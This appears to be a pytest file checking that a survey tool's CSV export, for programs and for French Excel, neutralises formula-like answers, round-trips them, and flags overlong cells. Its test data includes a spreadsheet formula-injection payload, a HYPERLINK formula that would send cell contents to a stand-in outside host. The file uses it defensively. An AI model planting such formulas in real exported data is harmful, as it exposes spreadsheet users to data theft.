"""CSV for programs and for a French Excel: one header row, no formula ever runs, round trips."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest

from fieldkit.export import write_csv
from fieldkit.export.tables import EXCEL, EXCEL_CELL_LIMIT, PLAIN, protect, unprotect
from fieldkit.survey import Survey
from tests.export.helpers import Garage, populate

#: Answers a spreadsheet would run as formulas, and what looks like one without being one.
FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1;"clic")',
    "+33 6 12 34 56 78",
    "-5 par rapport à l’an dernier",
    "@SUM(A1:A9)",
    "'déjà une apostrophe",
    "rien de spécial = rien",
]


@pytest.fixture
def garage(survey: Survey, tmp_path: Path) -> Garage:
    return populate(survey, tmp_path)


def _read(path: Path, excel: bool) -> list[dict[str, str]]:
    encoding, delimiter = ("utf-8-sig", ";") if excel else ("utf-8", ",")
    with path.open(encoding=encoding, newline="") as handle:
        return list(csv.DictReader(handle, delimiter=delimiter))


@pytest.mark.parametrize("excel", [False, True], ids=["plain", "excel"])
def test_formula_like_answers_round_trip_and_never_start_a_formula(
    survey: Survey, garage: Garage, tmp_path: Path, excel: bool
) -> None:
    for text in FORMULAS:
        survey.add_note(garage.first, text)
    survey.set_answer(garage.second, "origine_details", FORMULAS[0])
    written = write_csv(survey, tmp_path / "t.csv", excel=excel)
    notes = _read(next(p for p in written.paths if p.name.endswith("-notes.csv")), excel)
    key = "text"
    cells = [row[key] for row in notes]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t")), cell
    assert sorted(unprotect(cell) for cell in cells) == sorted(FORMULAS)
    main = _read(written.paths[0], excel)
    column = "origine_details" if not excel else next(k for k in main[0] if "récit" in k.lower())
    assert [unprotect(row[column]) for row in main if row[column]] == [FORMULAS[0]]


@pytest.mark.parametrize("typed", ["\tcaché", "\rcaché", "=1+1", "'", "-"])
def test_a_cell_that_could_start_a_formula_gets_one_apostrophe_more(typed: str) -> None:
    assert protect(typed, PLAIN) == protect(typed, EXCEL) == "'" + typed
    assert unprotect(protect(typed, PLAIN)) == typed
    assert protect(-5, EXCEL) == "-5" and protect(-4.5, EXCEL) == "-4,5"  # numbers stay numbers


def test_the_plain_kind_is_for_programs(survey: Survey, garage: Garage, tmp_path: Path) -> None:
    written = write_csv(survey, tmp_path / "t.csv")
    data = written.paths[0].read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    rows = _read(written.paths[0], excel=False)
    assert list(rows[0])[:3] == ["initiative", "date", "interview_id"]  # one header row
    first = next(r for r in rows if r["interview_id"] == garage.first)
    assert first["effectif_salarie"] == "4.5" and first["annee_creation"] == "2015"


def test_the_excel_kind_opens_right_in_a_french_excel(
    survey: Survey, garage: Garage, tmp_path: Path
) -> None:
    written = write_csv(survey, tmp_path / "t.csv", excel=True)
    data = written.paths[0].read_bytes()
    assert data.startswith(b"\xef\xbb\xbfInitiative;Date;")  # a UTF-8 mark, semicolons
    rows = _read(written.paths[0], excel=True)
    header = list(rows[0])
    assert "interview_id" in header  # what has no label keeps its key
    salaried = next(k for k in header if k.startswith("Effectif salarié"))
    assert {r[salaried] for r in rows} == {"4,5", "6"}  # decimal comma
    assert sum(1 for line in data.splitlines() if line.startswith(b"\xef\xbb\xbf")) == 1


@pytest.mark.parametrize("excel", [False, True], ids=["plain", "excel"])
def test_a_cell_longer_than_excel_holds_is_written_whole_and_reported(
    survey: Survey, garage: Garage, tmp_path: Path, excel: bool, run: Any, survey_path: Path
) -> None:
    long = "x" * (EXCEL_CELL_LIMIT + 100)
    survey.set_answer(garage.first, "effets_constates", long)
    written = write_csv(survey, tmp_path / "t.csv", excel=excel)
    [warning] = written.warnings
    assert "effets_constates" in warning and "32,767" in warning and "row 2" in warning
    rows = _read(written.paths[0], excel)
    assert long in [value for row in rows for value in row.values()]
    survey.close()
    result = run("export", "csv", survey_path, "-o", tmp_path / "cli.csv")
    assert result.exit_code == 0 and "warning: sheet 'reponses', row 2" in result.output
